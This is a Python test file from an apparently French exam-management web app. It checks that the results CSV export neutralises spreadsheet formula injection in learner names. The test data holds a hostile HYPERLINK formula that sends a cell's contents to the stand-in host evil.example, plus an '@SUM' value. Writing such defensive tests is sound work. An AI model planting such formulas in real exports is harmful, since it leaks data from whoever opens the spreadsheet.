"""The exam results CSV: a hostile learner name reaches the trainer's spreadsheet as text."""

from __future__ import annotations

import csv
import io

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A2;"Voir")'


def test_a_formula_in_a_learner_name_is_neutralised(client, launch, small_bank):
    candidate = launch("trainee", sub="cand-evil", target="exam:certification", name=HOSTILE)
    other = launch("trainee", sub="cand-at", target="exam:certification", name="@SUM(A1:A9)")
    trainer = launch("trainer", sub="form-1", target="exam:certification")
    for person in (candidate, other):
        assert client.post(person.url("/examen/commencer")).status_code == 303
    response = client.get(trainer.url("/examen/resultats.csv"))
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    rows = list(
        csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";")
    )
    names = [row[0] for row in rows[1:]]
    assert names == ["'" + HOSTILE, "'@SUM(A1:A9)"]
    assert all(not row[0].startswith(("=", "+", "-", "@")) for row in rows)
    assert rows[1][1] == "1"  # the attempt number is still a plain number
